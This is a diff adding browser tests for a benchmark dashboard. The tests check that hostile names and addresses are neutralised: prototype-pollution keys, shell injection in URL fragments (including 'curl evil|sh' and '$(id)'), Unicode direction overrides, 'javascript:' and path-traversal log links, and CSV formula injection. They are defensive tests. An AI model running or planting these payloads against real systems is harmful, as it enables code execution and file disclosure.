@@ -1,0 +1,122 @@
+"""Names and addresses that attack: they are shown, and change nothing else."""
+
+from __future__ import annotations
+
+from pathlib import Path
+from typing import Any
+from urllib.parse import unquote
+
+import pytest
+from browser import Browser
+from dashboard_page import draw_everything, open_all_details, visit, write_page
+from synthetic_rows import NASTY_DEVICE, base_row, compared
+
+pytestmark = pytest.mark.browser
+
+WORDS = ("__proto__", "constructor", "toString", "hasOwnProperty", "then")
+
+NAMED = ("family", "variant", "source", "precision", "device", "software", "host", "note", "flags")
+
+
+def named(word: str, number: int, **changes: Any) -> dict[str, Any]:
+    names = dict.fromkeys(NAMED, word)
+    return base_row(trial_id=f"{number:016}", model=word, **names, **changes)
+
+
+def test_names_of_what_every_object_has_are_only_names(browser: Browser, tmp_path: Path) -> None:
+    rows = [
+        named(word, 2 * number, batch_size=1) | compared(100.0, 120.0 + number, 0.02)
+        for number, word in enumerate(WORDS)
+    ] + [
+        named(word, 2 * number + 1, batch_size=8, verdict="failed", status=word, failed_mode=word)
+        for number, word in enumerate(WORDS)
+    ]
+    page = write_page(tmp_path / "page.html", rows, folders={"__proto__": "."})
+    for filters in ((), [("model", "__proto__")], [("device", "constructor")]):
+        visit(browser, page, filters)
+        draw_everything(browser)
+        open_all_details(browser)
+        draw_everything(browser)
+        assert browser.evaluate("Object.keys(Object.prototype)") == []
+        assert (
+            browser.evaluate(
+                "(() => { const all = []; for (const one in {}) all.push(one); return all; })()"
+            )
+            == []
+        )
+        words = browser.evaluate("document.body.innerText")
+        for wrong in ("[object", "native code", "undefined", "NaN"):
+            assert wrong not in words
+        assert browser.complaints == []
+    assert "toString" in words
+
+
+@pytest.mark.parametrize(
+    ("address", "command"),
+    [
+        ("model=zz&precision=x;curl evil|sh", "model=zz"),
+        ("model=zz&source=$(id)&batch_size=8", "model=zz batch_size=8"),
+        ("model=a b&resolution_px=224", "model=NAME resolution=224"),
+        ("model=zz&resolution_px=224%0Aid", "model=zz"),
+        ("model=`id`", "model=NAME"),
+    ],
+)
+def test_an_address_puts_no_command_into_a_suggestion(
+    browser: Browser, tmp_path: Path, address: str, command: str
+) -> None:
+    page = write_page(tmp_path / "page.html", [base_row() | compared(100.0, 120.0, 0.02)])
+    browser.open(f"{page.uri}#{address}")
+    browser.wait("document.documentElement.dataset.ready === 'true'")
+    suggested = browser.evaluate("document.querySelector('#answer-sub code').textContent")
+    assert suggested == f"python -m xla_sweeps {command}"
+
+
+def test_marks_that_reverse_a_name_are_spelled_out(browser: Browser, tmp_path: Path) -> None:
+    """Two names that look alike otherwise stay two."""
+    reverse, isolate = "\u202e", "\u2067"
+    rows = [
+        base_row(trial_id="1" * 16, model=f"{reverse}05tenser") | compared(100.0, 120.0, 0.02),
+        base_row(trial_id="2" * 16, model="05tenser", device=f"{isolate}A")
+        | compared(100.0, 130.0, 0.02),
+    ]
+    page = write_page(tmp_path / "page.html", rows, title=f"study {reverse}")
+    visit(browser, page)
+    draw_everything(browser)
+    open_all_details(browser)
+    words = browser.evaluate("document.body.textContent")
+    assert not {reverse, isolate} & {*words}
+    for shown in ("[U+202E]05tenser", "[U+2067]A", "study [U+202E]"):
+        assert shown in words
+    assert browser.evaluate("xlaSweeps.rows()") == 2
+
+
+def test_a_log_is_linked_only_where_it_lies_in_the_results(
+    browser: Browser, tmp_path: Path
+) -> None:
+    logs = {
+        "1": "records/1/0.log",
+        "2": "javascript:alert(1)",
+        "3": "//evil.example/x",
+        "4": "../../../etc/passwd",
+        "5": "records/<b>/0.log",
+    }
+    rows = [
+        base_row(trial_id=number * 16, batch_size=int(number), log=log, device=NASTY_DEVICE)
+        | compared(100.0, 120.0, 0.02)
+        for number, log in logs.items()
+    ]
+    page = write_page(tmp_path / "page.html", rows, folders={"results": "../my results"})
+    visit(browser, page)
+    draw_everything(browser)
+    links = browser.evaluate("[...document.querySelectorAll('.grid a')].map((link) => link.href)")
+    assert [*map(unquote, links)] == [f"{tmp_path.parent.as_uri()}/my results/records/1/0.log"]
+
+
+def test_a_spreadsheet_that_splits_at_semicolons_sees_no_formula(
+    browser: Browser, tmp_path: Path
+) -> None:
+    row = base_row(note="a;=1+1") | compared(100.0, 120.0, 0.02)
+    visit(browser, write_page(tmp_path / "page.html", [row]))
+    draw_everything(browser)
+    _, content = browser.download(lambda: browser.click("#csv"))
+    assert '"a;=1+1"' in content.decode()
